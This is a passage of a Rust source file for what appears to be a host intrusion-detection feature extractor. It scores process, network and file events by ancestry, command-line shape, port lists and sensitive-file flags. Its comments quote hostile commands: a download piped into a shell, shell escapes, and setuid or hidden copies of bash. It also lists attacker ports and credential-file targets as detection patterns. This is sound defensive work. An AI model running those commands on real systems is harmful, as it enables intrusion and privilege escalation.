//! Feature extraction: one fixed-length vector per event, from the event and
//! the host's recent history (see [`crate::state`]).
//!
//! Every feature is declared once, as a variant of its family's enum (the
//! [`family!`] declarations below): the variant's name string is the
//! feature's name and its position, after the family's offset in [`at`], is
//! its slot. Writers and readers name the variant (`File::Shadow`), never an
//! offset, so a feature cannot be written into its neighbour's slot, and
//! reordering a declaration reorders names and slots together (a model
//! trained on the old order is then refused by [`crate::load_checked`]).
//! [`Feature::at`] turns a slot back into its typed feature for the
//! explanations.
//!
//! Families, in vector order: event kind and identity ([`Head`]); the
//! program's and its parent's families ([`FAMILIES`]); placement
//! ([`Placement`]); ancestry ([`Ancestry`]); command-line indicators
//! ([`INDICATORS`]), shape ([`CmdShape`]) and derived facts ([`CmdDerived`])
//! — for connect and open events those of the process's exec; network
//! ([`Net`]); temporal ([`Temporal`]); file integrity ([`File`]). [`names`]
//! lists every feature.

use std::net::IpAddr;
use std::sync::LazyLock;

use outlier_proto::facts::{AddrClass, OpenMode, UidClass, oflags};
use outlier_proto::v1::{Connect, Event, Open, event::Detail};

use crate::lexicon::{self, FAMILIES, Family, INDICATORS, indicator};
use crate::state::{Dropped, HostState, HostStore, Limits, Proc, Seen, TwoGen};

/// Declares one family of features: an enum whose variants are the
/// features, each with its name; the family's slots start at `$at`.
macro_rules! family {
    ($(#[$doc:meta])* $ty:ident at $at:expr; { $($var:ident = $name:literal,)+ }) => {
        $(#[$doc])*
        #[derive(Debug, Clone, Copy, PartialEq, Eq)]
        pub enum $ty { $($var),+ }
        impl $ty {
            /// The family's features, in slot order.
            pub const ALL: &[$ty] = &[$($ty::$var),+];
            /// Their names, in slot order.
            pub const NAMES: &[&str] = &[$($name),+];
            /// How many there are.
            pub const LEN: usize = Self::ALL.len();
            /// The slot in the feature vector.
            pub const fn slot(self) -> usize {
                $at + self as usize
            }
            /// The feature's name.
            pub const fn name(self) -> &'static str {
                Self::NAMES[self as usize]
            }
        }
    };
}

family! {
    /// The event's kind and the identity it runs under.
    Head at at::HEAD; {
        KindExec = "kind_exec",
        KindConnect = "kind_connect",
        KindOpen = "kind_open",
        UidRoot = "uid_root",
        UidService = "uid_service",
        UidUser = "uid_user",
        GidRoot = "gid_root",
        UidDiffersFromParent = "uid_differs_from_parent",
        RootUnderNonRootParent = "root_under_non_root_parent",
    }
}

family! {
    /// Where the program lives and works.
    Placement at at::PLACEMENT; {
        ExeInTmp = "exe_in_tmp",
        ExeHidden = "exe_hidden",
        ExeNonstandardDir = "exe_nonstandard_dir",
        CommExeMismatch = "comm_exe_mismatch",
        CommLen = "comm_len",
        CwdTmp = "cwd_tmp",
        CwdRoot = "cwd_root",
        CwdWebRoot = "cwd_web_root",
    }
}

family! {
    /// The process's ancestors, from the event and the host's process table.
    Ancestry at at::ANCESTRY; {
        Depth = "ancestry_depth",
        WebServer = "ancestor_webserver",
        Database = "ancestor_database",
        Cron = "ancestor_cron",
        Sshd = "ancestor_sshd",
        Ci = "ancestor_ci",
        Shells = "shells_in_chain",
        Interpreters = "interpreters_in_chain",
        ShellUnderService = "shell_under_service",
        ShellUnderCron = "shell_under_cron",
    }
}

family! {
    /// The shape of the command line (kept per process in the host's table,
    /// so a connect or open carries its exec's).
    CmdShape at at::CMD_SHAPE; {
        Argc = "cmd_argc",
        LenLog2 = "cmd_len_log2",
        MaxTokenLen = "cmd_max_token_len",
        Entropy = "cmd_entropy",
        NonalnumRatio = "cmd_nonalnum_ratio",
        DigitRatio = "cmd_digit_ratio",
        UpperRatio = "cmd_upper_ratio",
        Quotes = "cmd_quotes",
        Pipes = "cmd_pipes",
        Separators = "cmd_separators",
        Substitutions = "cmd_substitutions",
        Redirects = "cmd_redirects",
    }
}

family! {
    /// Facts derived from the exec's command line and indicators.
    CmdDerived at at::CMD_DERIVED; {
        DownloadExec = "cmd_download_exec",
        IpLiteral = "cmd_ip_literal",
        PortLiteral = "cmd_port_literal",
        SuspiciousPortLiteral = "cmd_suspicious_port_literal",
        SudoShell = "cmd_sudo_shell",
    }
}

family! {
    /// An outbound connection.
    Net at at::NET; {
        PortLog2 = "net_port_log2",
        PortCommon = "net_port_common",
        PortSuspicious = "net_port_suspicious",
        PortEphemeral = "net_port_ephemeral",
        PortPrivileged = "net_port_privileged",
        RemotePrivate = "net_remote_private",
        RemoteLoopback = "net_remote_loopback",
        RemotePublic = "net_remote_public",
        Ipv6 = "net_ipv6",
        PortFirstSeen = "net_port_first_seen",
        RemoteFirstSeen = "net_remote_first_seen",
        PortSeenLog2 = "net_port_seen_log2",
        RemoteSeenLog2 = "net_remote_seen_log2",
        ByShellOrInterpreter = "net_by_shell_or_interpreter",
        ByNonNetworkProgram = "net_by_non_network_program",
        ByWebDescendant = "net_by_web_descendant",
    }
}

family! {
    /// What the host did recently.
    Temporal at at::TEMPORAL; {
        Execs1s = "execs_1s",
        Execs10s = "execs_10s",
        Execs60s = "execs_60s",
        Connects60s = "connects_60s",
        Writes60s = "writes_60s",
        SensitiveReads60s = "sensitive_reads_60s",
        ProgramFirstSeen = "program_first_seen",
        ProgramIdleLog2s = "program_idle_log2s",
        ParentAgeLog2s = "parent_age_log2s",
        Siblings10s = "siblings_10s",
    }
}

family! {
    /// A file opened: how, and what it is.
    File at at::FILE; {
        Write = "file_write",
        Create = "file_create",
        Etc = "file_etc",
        Cron = "file_cron",
        BinDir = "file_bin_dir",
        AuthorizedKeys = "file_authorized_keys",
        SshDir = "file_ssh_dir",
        Shadow = "file_shadow",
        Passwd = "file_passwd",
        Sudoers = "file_sudoers",
        Systemd = "file_systemd",
        Tmp = "file_tmp",
        Hidden = "file_hidden",
        LdPreload = "file_ld_preload",
        Proc = "file_proc",
        VarLog = "file_var_log",
        BootModules = "file_boot_modules",
        Profile = "file_profile",
        Credentials = "file_credentials",
        WebRoot = "file_web_root",
        DirFirstWrite = "file_dir_first_write",
    }
}

/// Offsets of the families in the vector, in vector order.
pub mod at {
    use super::*;
    pub const HEAD: usize = 0;
    pub const PROC_FAM: usize = HEAD + Head::LEN;
    pub const PARENT_FAM: usize = PROC_FAM + FAMILIES.len();
    pub const PLACEMENT: usize = PARENT_FAM + FAMILIES.len();
    pub const ANCESTRY: usize = PLACEMENT + Placement::LEN;
    pub const IND: usize = ANCESTRY + Ancestry::LEN;
    pub const CMD_SHAPE: usize = IND + INDICATORS.len();
    pub const CMD_DERIVED: usize = CMD_SHAPE + CmdShape::LEN;
    pub const NET: usize = CMD_DERIVED + CmdDerived::LEN;
    pub const TEMPORAL: usize = NET + Net::LEN;
    pub const FILE: usize = TEMPORAL + Temporal::LEN;
    pub const END: usize = FILE + File::LEN;
}

/// Length of the feature vector.
pub const N_FEATURES: usize = at::END;

/// What one slot of the vector holds.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Feature {
    Head(Head),
    /// The program is of this family.
    ProcFamily(Family),
    /// Its parent is of this family.
    ParentFamily(Family),
    Placement(Placement),
    Ancestry(Ancestry),
    /// An index into [`INDICATORS`].
    Indicator(usize),
    CmdShape(CmdShape),
    CmdDerived(CmdDerived),
    Net(Net),
    Temporal(Temporal),
    File(File),
}

impl Feature {
    /// The feature in `slot`; `None` past the end of the vector.
    pub fn at(slot: usize) -> Option<Feature> {
        fn pick<T: Copy>(all: &[T], start: usize, slot: usize) -> Option<T> {
            slot.checked_sub(start).and_then(|i| all.get(i).copied())
        }
        Some(match slot {
            s if s < at::PROC_FAM => Feature::Head(pick(Head::ALL, at::HEAD, s)?),
            s if s < at::PARENT_FAM => Feature::ProcFamily(pick(&FAMILIES, at::PROC_FAM, s)?),
            s if s < at::PLACEMENT => Feature::ParentFamily(pick(&FAMILIES, at::PARENT_FAM, s)?),
            s if s < at::ANCESTRY => Feature::Placement(pick(Placement::ALL, at::PLACEMENT, s)?),
            s if s < at::IND => Feature::Ancestry(pick(Ancestry::ALL, at::ANCESTRY, s)?),
            s if s < at::CMD_SHAPE => Feature::Indicator(s - at::IND),
            s if s < at::CMD_DERIVED => Feature::CmdShape(pick(CmdShape::ALL, at::CMD_SHAPE, s)?),
            s if s < at::NET => Feature::CmdDerived(pick(CmdDerived::ALL, at::CMD_DERIVED, s)?),
            s if s < at::TEMPORAL => Feature::Net(pick(Net::ALL, at::NET, s)?),
            s if s < at::FILE => Feature::Temporal(pick(Temporal::ALL, at::TEMPORAL, s)?),
            s => Feature::File(pick(File::ALL, at::FILE, s)?),
        })
    }

    /// The feature's slot in the vector.
    pub fn slot(self) -> usize {
        match self {
            Feature::Head(f) => f.slot(),
            Feature::ProcFamily(f) => at::PROC_FAM + family_index(f),
            Feature::ParentFamily(f) => at::PARENT_FAM + family_index(f),
            Feature::Placement(f) => f.slot(),
            Feature::Ancestry(f) => f.slot(),
            Feature::Indicator(i) => at::IND + i,
            Feature::CmdShape(f) => f.slot(),
            Feature::CmdDerived(f) => f.slot(),
            Feature::Net(f) => f.slot(),
            Feature::Temporal(f) => f.slot(),
            Feature::File(f) => f.slot(),
        }
    }

    /// The feature's name, as model files list it.
    pub fn name(self) -> String {
        match self {
            Feature::Head(f) => f.name().into(),
            Feature::ProcFamily(f) => format!("proc_{}", f.name()),
            Feature::ParentFamily(f) => format!("parent_{}", f.name()),
            Feature::Placement(f) => f.name().into(),
            Feature::Ancestry(f) => f.name().into(),
            Feature::Indicator(i) => INDICATORS[i].name.into(),
            Feature::CmdShape(f) => f.name().into(),
            Feature::CmdDerived(f) => f.name().into(),
            Feature::Net(f) => f.name().into(),
            Feature::Temporal(f) => f.name().into(),
            Feature::File(f) => f.name().into(),
        }
    }
}

static NAMES: LazyLock<Vec<String>> = LazyLock::new(|| {
    (0..N_FEATURES)
        .map(|s| Feature::at(s).expect("a slot below N_FEATURES").name())
        .collect()
});

/// Every feature's name, in vector order.
pub fn names() -> &'static [String] {
    &NAMES
}

/// A feature vector being filled: written by feature, never by offset.
struct Vector([f32; N_FEATURES]);

impl Vector {
    fn set(&mut self, f: impl Into<Feature>, x: f32) {
        self.0[f.into().slot()] = x;
    }

    fn flag(&mut self, f: impl Into<Feature>, b: bool) {
        self.set(f, flag(b));
    }

    fn get(&self, f: impl Into<Feature>) -> f32 {
        self.0[f.into().slot()]
    }
}

macro_rules! into_feature {
    ($($ty:ident),+) => {
        $(impl From<$ty> for Feature {
            fn from(f: $ty) -> Feature {
                Feature::$ty(f)
            }
        })+
    };
}
into_feature!(
    Head, Placement, Ancestry, CmdShape, CmdDerived, Net, Temporal, File
);

// FAMILIES lists the families in declaration order, so a family's
// discriminant is its index.
const _: () = {
    let mut i = 0;
    while i < FAMILIES.len() {
        assert!(FAMILIES[i] as usize == i);
        i += 1;
    }
};

fn family_index(f: Family) -> usize {
    f as usize
}

/// What an explanation sentence may refer to.
#[derive(Debug, Clone, Default)]
pub struct Context {
    pub comm: String,
    pub parent_comm: String,
    /// Nearest ancestor that is a web server, database, scheduler, sshd or CI runner.
    pub service_ancestor: String,
    pub remote: String,
    pub port: u32,
    pub path: String,
    /// The program a download piped into a shell runs: the last part of
    /// the URL's path without its extension (`linpeas` for
    /// `curl http://h/linpeas.sh | sh`). Empty unless
    /// `cmd_download_exec` fires.
    pub fetched: String,
    /// The technique the process's command line names by its arguments
    /// (`lexicon::command_technique`), for naming; empty when none.
    pub command_technique: &'static str,
    /// Whether the process's arguments start a shell (`find . -exec
    /// /bin/sh`, `vim -c ':!sh'`, `os.system(...)`): the program is a
    /// vehicle for one. Its own name does not count (`/bin/sh -c …` is a
    /// shell, not a shell started through one). For naming.
    pub shell_in_arguments: bool,
    /// Whether the process descends from a program that installs software
    /// or provisions accounts (`lexicon::provisions`), started from a
    /// system directory: what such a lineage writes to start-up locations
    /// is installed software or a new home. See [`provisioning`].
    pub provisioning: bool,
    /// The web or database server the process runs under, through parents
    /// the process table vouches for ([`served_by`]); empty when none. For
    /// the scorer's lineage novelty: what a web server's process tree runs
    /// is a short, stable list.
    pub served_by: String,
}

impl Context {
    /// Whether the process is a shell or an interpreter, by its name.
    pub fn shellish(&self) -> bool {
        lexicon::shellish(lexicon::families(&self.comm))
    }
}

/// The features of one event.
#[derive(Debug, Clone)]
pub struct Features {
    pub values: [f32; N_FEATURES],
    pub context: Context,
}

impl Features {
    /// The value of one feature.
    pub fn get(&self, f: impl Into<Feature>) -> f32 {
        self.values[f.into().slot()]
    }
}

const COMMON_PORTS: &[u32] = &[
    20, 21, 22, 25, 53, 80, 110, 123, 143, 389, 443, 465, 587, 636, 993, 995, 2049, 2379, 3000,
    3306, 5000, 5432, 6379, 6443, 8000, 8080, 8443, 9000, 9090, 9092, 9200, 10250, 11211, 27017,
];
const SUSPICIOUS_PORTS: &[u32] = &[
    1080, 1234, 1337, 2222, 3389, 4443, 4444, 4445, 5555, 5900, 6000, 6666, 6667, 6697, 7777, 8888,
    9001, 9999, 12345, 31337, 54321,
];

const SEC: u64 = 1_000_000_000;

pub(crate) fn fnv(parts: &[&[u8]]) -> u64 {
    let mut h: u64 = 0xcbf2_9ce4_8422_2325;
    for p in parts {
        for &b in *p {
            h ^= u64::from(b);
            h = h.wrapping_mul(0x0100_0000_01b3);
        }
        h ^= 0xff;
        h = h.wrapping_mul(0x0100_0000_01b3);
    }
    h
}

fn log2p(x: f64) -> f32 {
    (x + 1.0).log2() as f32
}

fn flag(b: bool) -> f32 {
    if b { 1.0 } else { 0.0 }
}

fn in_tmp(p: &str) -> bool {
    p.starts_with("/tmp") || p.starts_with("/dev/shm") || p.starts_with("/var/tmp")
}

/// Shape of a command line.
fn cmd_shape(argv: &[String], line: &str) -> [f32; CmdShape::LEN] {
    let mut counts = [0u32; 256];
    let (mut alnum, mut digit, mut upper) = (0u32, 0u32, 0u32);
    for &b in line.as_bytes() {
        counts[b as usize] += 1;
        alnum += u32::from(b.is_ascii_alphanumeric() || b == b' ');
        digit += u32::from(b.is_ascii_digit());
        upper += u32::from(b.is_ascii_uppercase());
    }
    let n = line.len().max(1) as f64;
    let entropy: f64 = counts
        .iter()
        .filter(|&&c| c > 0)
        .map(|&c| {
            let p = f64::from(c) / n;
            -p * p.log2()
        })
        .sum();
    let c = |b: u8| counts[b as usize] as f32;
    let max_token = argv
        .iter()
        .flat_map(|a| a.split_whitespace())
        .map(str::len)
        .max()
        .unwrap_or(0);
    let mut s = [0f32; CmdShape::LEN];
    let mut set = |f: CmdShape, x: f32| s[f as usize] = x;
    set(CmdShape::Argc, argv.len() as f32);
    set(CmdShape::LenLog2, log2p(line.len() as f64));
    set(CmdShape::MaxTokenLen, max_token.min(4096) as f32);
    set(CmdShape::Entropy, entropy as f32);
    set(CmdShape::NonalnumRatio, 1.0 - (f64::from(alnum) / n) as f32);
    set(CmdShape::DigitRatio, (f64::from(digit) / n) as f32);
    set(CmdShape::UpperRatio, (f64::from(upper) / n) as f32);
    set(CmdShape::Quotes, c(b'\'') + c(b'"'));
    set(CmdShape::Pipes, c(b'|'));
    set(
        CmdShape::Separators,
        c(b';') + line.matches("&&").count() as f32,
    );
    set(
        CmdShape::Substitutions,
        line.matches("$(").count() as f32 + c(b'`'),
    );
    set(CmdShape::Redirects, c(b'>') + c(b'<'));
    s
}

fn is_ip_literal(tok: &str) -> bool {
    let t = tok.trim_matches(|c: char| !c.is_ascii_alphanumeric() && c != '.' && c != ':');
    let t = t.split(['/', ':']).next().unwrap_or(t);
    t.parse::<std::net::Ipv4Addr>()
        .is_ok_and(|ip| !ip.is_loopback() && !ip.is_unspecified())
}

/// Splits on the separators a shell or URL uses around addresses and ports.
fn tokens(line: &str) -> impl Iterator<Item = &str> {
    line.split(|c: char| {
        c.is_whitespace()
            || matches!(
                c,
                '/' | ':' | '=' | ',' | '"' | '\'' | '(' | ')' | ';' | '&' | '|' | '>' | '<'
            )
    })
    .filter(|t| !t.is_empty())
}

/// Extracts features, keeping per-host state (grouped by org, bounded per
/// org and in all).
pub struct Extractor {
    limits: Limits,
    hosts: HostStore<HostState>,
}

impl Default for Extractor {
    fn default() -> Self {
        Self::new(Limits::default())
    }
}

impl Extractor {
    pub fn new(limits: Limits) -> Self {
        Self {
            limits,
            hosts: HostStore::new(limits.hosts_per_org, limits.hosts),
        }
    }

    /// Host state dropped to stay within the bounds since the last call.
    pub fn drain_dropped(&mut self) -> Vec<Dropped> {
        self.hosts.drain_dropped()
    }

    /// Hosts currently tracked.
    pub fn hosts(&self) -> usize {
        self.hosts.len()
    }

    /// Approximate heap bytes of the whole state store.
    pub fn approx_bytes(&self) -> usize {
        self.hosts.values().map(HostState::approx_bytes).sum()
    }

    /// The web or database server the event's process runs under
    /// ([`Context::served_by`]), from the host's table as it stands now,
    /// without taking the event in: for an operator's answer about an
    /// event scored before. Empty when the host is no longer tracked or
    /// the chain is gone.
    pub fn served_by_of(&self, ev: &Event) -> String {
        let Some(h) = self.hosts.get(&ev.org, host_key(ev)) else {
            return String::new();
        };
        let is_exec = matches!(ev.detail, Some(Detail::Exec(_)));
        served_by(h, ev, &Subject::of(h, ev, is_exec), ev.ts_ns)
    }

    /// The event's features; the host's state then takes the event in.
    pub fn observe(&mut self, ev: &Event) -> Features {
        let limits = self.limits;
        let host = self
            .hosts
            .entry(&ev.org, host_key(ev), || HostState::new(&limits));
        extract(host, &limits, ev)
    }
}

/// The key of the event's host (and workload) in the state store.
fn host_key(ev: &Event) -> u64 {
    fnv(&[ev.workload.as_bytes(), ev.host.as_bytes()])
}

/// The process behind an event and its parent, as the event and the host's
/// process table know them.
struct Subject {
    /// The table's entry for the process (connect and open events only: an
    /// exec starts a new image).
    known: Option<Proc>,
    comm: String,
    ppid: u32,
    parent: Option<Proc>,
    parent_comm: String,
    /// Family bit sets of the program and its parent.
    fam: u32,
    pfam: u32,
}

impl Subject {
    fn of(h: &HostState, ev: &Event, is_exec: bool) -> Subject {
        let known = if is_exec {
            None
        } else {
            h.procs.get(&ev.pid).cloned()
        };
        // For an open or a connect the kernel names the calling thread, and
        // threads name themselves: the executable's name then (`program_name`).
        let comm = if ev.comm.is_empty() {
            known.as_ref().map(|p| p.comm.clone()).unwrap_or_default()
        } else {
            ev.program_name().to_string()
        };
        let ppid = if ev.ppid != 0 {
            ev.ppid
        } else {
            known.as_ref().map_or(0, |p| p.ppid)
        };
        let parent = h.procs.get(&ppid).cloned();
        let parent_comm = if ev.parent_comm.is_empty() {
            parent.as_ref().map(|p| p.comm.clone()).unwrap_or_default()
        } else {
            ev.parent_comm.clone()
        };
        let fam = lexicon::families(&comm);
        let pfam = lexicon::families(&parent_comm);
        Subject {
            known,
            comm,
            ppid,
            parent,
            parent_comm,
            fam,
            pfam,
        }
    }

    /// A shell or an interpreter.
    fn shellish(&self) -> bool {
        lexicon::shellish(self.fam)
    }
}

/// The command line behind an event: the exec's own, or (connect, open)
/// what the process table kept of the process's exec.
struct CommandLine {
    indicators: u64,
    shape: [f32; CmdShape::LEN],
    /// The text itself; empty for connect and open events.
    line: String,
}

impl CommandLine {
    fn has(&self, indicator: usize) -> bool {
        self.indicators & (1 << indicator) != 0
    }
}

fn extract(h: &mut HostState, l: &Limits, ev: &Event) -> Features {
    let mut v = Vector([0f32; N_FEATURES]);
    let now = ev.ts_ns;
    h.events += 1;
    let is_exec = matches!(ev.detail, Some(Detail::Exec(_)));
    v.flag(Head::KindExec, is_exec);
    v.flag(
        Head::KindConnect,
        matches!(ev.detail, Some(Detail::Connect(_))),
    );
    v.flag(Head::KindOpen, matches!(ev.detail, Some(Detail::Open(_))));
    let who = Subject::of(h, ev, is_exec);
    let mut ctx = Context {
        comm: who.comm.clone(),
        parent_comm: who.parent_comm.clone(),
        ..Context::default()
    };
    identity(&mut v, ev, &who);
    for f in FAMILIES {
        v.flag(Feature::ProcFamily(f), lexicon::has(who.fam, f));
        v.flag(Feature::ParentFamily(f), lexicon::has(who.pfam, f));
    }
    placement(&mut v, ev, &who);
    let ancestors = ancestry(&mut v, h, &who, &mut ctx);
    ctx.served_by = served_by(h, ev, &who, now);
    ctx.provisioning = provisioning(ev, &who, is_exec);
    let cmd = command_line(&mut v, ev, &who);
    ctx.command_technique = match (&ev.detail, &who.known) {
        (Some(Detail::Exec(_)), _) => lexicon::command_technique(&cmd.line),
        (_, Some(p)) => p.command_technique,
        _ => "",
    };
    ctx.shell_in_arguments = match (&ev.detail, &who.known) {
        (Some(Detail::Exec(x)), _) => {
            (cmd.has(SPAWN_SHELL) || cmd.has(SHELL_ESCAPE)) && shell_in_arguments(&x.argv)
        }
        (_, Some(p)) => p.shell_in_arguments,
        _ => false,
    };
    if v.0[Feature::from(CmdDerived::DownloadExec).slot()] != 0.0 {
        ctx.fetched = fetched_program(&cmd.line);
    }
    if let Some(Detail::Connect(c)) = &ev.detail {
        network(&mut v, h, l, ev, c, &who, ancestors, &mut ctx);
    }
    // The host's recent activity counts this event's connection but not
    // its file write.
    let program = fnv(&[who.comm.as_bytes(), ev.exe.as_bytes()]);
    temporal(&mut v, h, now, program, &who);
    if let Some(Detail::Open(o)) = &ev.detail {
        file(&mut v, h, l, o, now, &mut ctx);
    }

    // Take the event in.
    bump_u64(&mut h.programs, program, now);
    if is_exec {
        h.execs.push(now, l.window);
        let window = l.window;
        h.children
            .entry(who.ppid, Default::default)
            .push(now, window.min(64));
        h.procs.insert(
            ev.pid,
            Proc {
                ppid: who.ppid,
                comm: who.comm,
                parent_comm: who.parent_comm,
                uid: ev.uid,
                start_ns: now,
                families: who.fam,
                indicators: cmd.indicators,
                cmd_shape: cmd.shape,
                command_technique: ctx.command_technique,
                shell_in_arguments: ctx.shell_in_arguments,
                connected: false,
                provisioning: ctx.provisioning,
            },
        );
    }
    Features {
        values: v.0,
        context: ctx,
    }
}

/// How much earlier than its child a process-table entry may have been
/// started and still be trusted as that child's parent, for
/// [`served_by`]. The collector reports no exits and pids come round
/// again: in the recordings a parent's pid was taken by a process of
/// another name as soon as 460 s on (the build box, the web host ~490 s),
/// and a name check cannot tell a shell from a later shell of the same
/// pid (a web request's `sh -c` from a deploy script's). Two minutes is
/// well inside that and far longer than a shell takes to start what it
/// runs (a web shell's `sh -c 'a; b; c'`).
pub const SERVED_BY_FRESH_NS: u64 = 120 * SEC;

/// A web or database server, for [`served_by`]: `java` is every JVM (a
/// CI server, a build daemon), whose trees are not short lists.
fn is_server(name: &str) -> bool {
    let fams = lexicon::families(name);
    (lexicon::has(fams, Family::WebServer) || lexicon::has(fams, Family::Database))
        && name != "java"
}

/// The web or database server the process runs under, not being one
/// itself (a server's own events are its parent's lineage): its parent by
/// the event's own record, then the chain of process-table entries, each
/// only if it is named as the process below it says and started at most
/// [`SERVED_BY_FRESH_NS`] before it. Empty when the chain ends or an entry
/// is not vouched for before a server is found. A process that forks
/// without an exec (a subshell, a daemonising double fork) has no entry
/// and ends the chain.
fn served_by(h: &HostState, ev: &Event, who: &Subject, now: u64) -> String {
    // The kernel's name of the process counts too: a server's process the
    // collector reports with a stale executable (a forked PostgreSQL
    // backend on the pid of an earlier `awk`) is still the server.
    if is_server(&who.comm) || is_server(&ev.comm) {
        return String::new();
    }
    let mut name = who.parent_comm.as_str();
    let mut ppid = who.ppid;
    // When the process below started: the event's own process's exec,
    // when the table has it under the same parent, else the event.
    let mut below = match &who.known {
        Some(k) if k.ppid == ppid && k.start_ns <= now => k.start_ns,
        _ => now,
    };
    for _ in 0..8 {
        if is_server(name) {
            return name.to_string();
        }
        match h.procs.get(&ppid) {
            Some(p)
                if ppid != 0
                    && !name.is_empty()
                    && p.comm == name
                    && p.start_ns <= below
                    && below - p.start_ns <= SERVED_BY_FRESH_NS =>
            {
                name = &p.parent_comm;
                ppid = p.ppid;
                below = p.start_ns;
            }
            _ => break,
        }
    }
    String::new()
}

/// Whether the process descends from a program that installs software or
/// provisions accounts (`lexicon::provisions`). Decided at exec — from the
/// program's name *and* where it was started from (a copy of a shell
/// named `dpkg` in /tmp is not dpkg) — and inherited by its children
/// through the process table, so a maintainer script's `cp` counts and a
/// package manager running in an interpreter (dnf's opens carry
/// `python3`'s name) is still known by its exec. For a process the table
/// does not know (started before the collector), by its and its parent's
/// names.
fn provisioning(ev: &Event, who: &Subject, is_exec: bool) -> bool {
    if is_exec {
        let own = lexicon::provisions(&who.comm)
            && (BIN_DIRS.iter().any(|d| ev.exe.starts_with(d))
                || ev.exe.starts_with("/usr/libexec/"));
        own || who
            .parent
            .as_ref()
            .map_or_else(|| lexicon::provisions(&who.parent_comm), |p| p.provisioning)
    } else {
        who.known.as_ref().map_or_else(
            || lexicon::provisions(&who.comm) || lexicon::provisions(&who.parent_comm),
            |p| p.provisioning,
        )
    }
}

fn identity(v: &mut Vector, ev: &Event, who: &Subject) {
    let uid = UidClass::of(ev.uid);
    v.flag(Head::UidRoot, uid == UidClass::Root);
    v.flag(Head::UidService, uid == UidClass::System);
    v.flag(Head::UidUser, uid == UidClass::User);
    v.flag(Head::GidRoot, ev.gid == 0 && ev.uid != 0);
    if let Some(p) = &who.parent {
        v.flag(Head::UidDiffersFromParent, p.uid != ev.uid);
        v.flag(Head::RootUnderNonRootParent, ev.uid == 0 && p.uid != 0);
    }
}

fn placement(v: &mut Vector, ev: &Event, who: &Subject) {
    let exe = ev.exe.as_str();
    let exe_dir = exe.rsplit_once('/').map_or("", |(d, _)| d);
    let cwd = match &ev.detail {
        Some(Detail::Exec(x)) => x.cwd.as_str(),
        _ => "",
    };
    v.flag(Placement::ExeInTmp, in_tmp(exe));
    v.flag(Placement::ExeHidden, exe.contains("/."));
    v.flag(
        Placement::ExeNonstandardDir,
        !exe.is_empty()
            && !matches!(
                exe_dir,
                "/bin" | "/sbin" | "/usr/bin" | "/usr/sbin" | "/usr/local/bin" | "/usr/local/sbin"
            )
            && !exe_dir.starts_with("/usr/lib")
            && !exe_dir.starts_with("/opt"),
    );
    let exe_base = exe.rsplit('/').next().unwrap_or(exe);
    v.flag(
        Placement::CommExeMismatch,
        !exe.is_empty()
            && !who.comm.is_empty()
            && !exe_base.starts_with(who.comm.trim_start_matches('-')),
    );
    v.set(Placement::CommLen, who.comm.len() as f32);
    v.flag(Placement::CwdTmp, in_tmp(cwd));
    v.flag(Placement::CwdRoot, cwd == "/");
    v.flag(
        Placement::CwdWebRoot,
        cwd.starts_with("/var/www") || cwd.starts_with("/srv/www"),
    );
}

/// Ancestry: the parent named by the event, then the table's chain; where
/// the table ends, the last known process's parent name still counts as one
/// more ancestor.
/// Returns the bit set of every ancestor's families.
fn ancestry(v: &mut Vector, h: &HostState, who: &Subject, ctx: &mut Context) -> u32 {
    let (mut depth, mut shells, mut interps) = (0u32, 0u32, 0u32);
    let mut anc = 0u32;
    let mut note = |c: &str, fams: u32, ctx: &mut Context| {
        depth += 1;
        anc |= fams;
        shells += u32::from(lexicon::has(fams, Family::Shell));
        interps += u32::from(lexicon::has(fams, Family::Interpreter));
        if ctx.service_ancestor.is_empty()
            && [
                Family::WebServer,
                Family::Database,
                Family::Cron,
                Family::Sshd,
                Family::CiRunner,
            ]
            .iter()
            .any(|f| lexicon::has(fams, *f))
        {
            ctx.service_ancestor = c.to_string();
        }
    };
    if !who.parent_comm.is_empty() {
        note(&who.parent_comm, who.pfam, ctx);
    }
    let mut cur = who.parent.clone();
    let mut hops = 0;
    while let Some(p) = cur.take() {
        if hops >= 16 {
            break;
        }
        hops += 1;
        let (c, fams) = match h.procs.get(&p.ppid).filter(|_| p.ppid != 0) {
            Some(gp) => {
                cur = Some(gp.clone());
                (gp.comm.clone(), gp.families)
            }
            None if !p.parent_comm.is_empty() => {
                (p.parent_comm.clone(), lexicon::families(&p.parent_comm))
            }
            None => break,
        };
        note(&c, fams, ctx);
    }
    let shellish = who.shellish() || shells > 0;
    v.set(Ancestry::Depth, depth as f32);
    v.flag(Ancestry::WebServer, lexicon::has(anc, Family::WebServer));
    v.flag(Ancestry::Database, lexicon::has(anc, Family::Database));
    v.flag(Ancestry::Cron, lexicon::has(anc, Family::Cron));
    v.flag(Ancestry::Sshd, lexicon::has(anc, Family::Sshd));
    v.flag(Ancestry::Ci, lexicon::has(anc, Family::CiRunner));
    v.set(Ancestry::Shells, shells as f32);
    v.set(Ancestry::Interpreters, interps as f32);
    v.flag(
        Ancestry::ShellUnderService,
        shellish && (lexicon::has(anc, Family::WebServer) || lexicon::has(anc, Family::Database)),
    );
    v.flag(
        Ancestry::ShellUnderCron,
        shellish && lexicon::has(anc, Family::Cron),
    );
    anc
}

const DOWNLOADER: usize = indicator("cmd_downloader");
const PIPE_TO_SHELL: usize = indicator("cmd_pipe_to_shell");
const CHMOD_EXEC: usize = indicator("cmd_chmod_exec");
const SPAWN_SHELL: usize = indicator("cmd_spawn_shell");
const SHELL_ESCAPE: usize = indicator("cmd_shell_escape");
const SUDO: usize = indicator("cmd_sudo");

/// Whether the arguments after the program's own name start a shell or
/// escape to one (see [`Context::shell_in_arguments`]).
///
/// A shell's path a program copies, links or changes (`cp /bin/bash
/// /tmp/.x`, `chmod u+s /bin/sh`) is a file, and one an account tool sets
/// as a login shell (`useradd -s /bin/bash`) runs only when that account
/// logs in: neither starts a shell.
fn shell_in_arguments(argv: &[String]) -> bool {
    let prog = argv.first().map_or("", |p| lexicon::base(p));
    if FILE_TOOLS.contains(&prog) {
        return false;
    }
    let account = ACCOUNT_TOOLS.contains(&prog);
    let mut rest: Vec<&str> = Vec::new();
    let mut args = argv.iter().skip(1).map(String::as_str);
    while let Some(a) = args.next() {
        if account {
            if matches!(a, "-s" | "--shell") {
                args.next();
                continue;
            }
            if a.starts_with("--shell=") {
                continue;
            }
        }
        rest.push(a);
    }
    let bits = lexicon::scan_command(&rest.join(" "));
    bits & (1 << SPAWN_SHELL | 1 << SHELL_ESCAPE) != 0
}

/// Programs whose arguments are files they copy, link or change.
const FILE_TOOLS: &[&str] = &[
    "cp",
    "mv",
    "ln",
    "install",
    "chmod",
    "chown",
    "chgrp",
